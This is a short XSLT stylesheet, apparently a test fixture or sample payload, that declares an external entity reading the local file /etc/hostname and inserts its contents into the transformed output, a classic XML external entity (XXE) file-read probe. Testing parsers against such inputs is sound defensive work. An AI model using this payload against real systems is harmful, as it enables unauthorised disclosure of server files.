<!DOCTYPE xsl:stylesheet [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/"><a>&secret;</a></xsl:template>
</xsl:stylesheet>
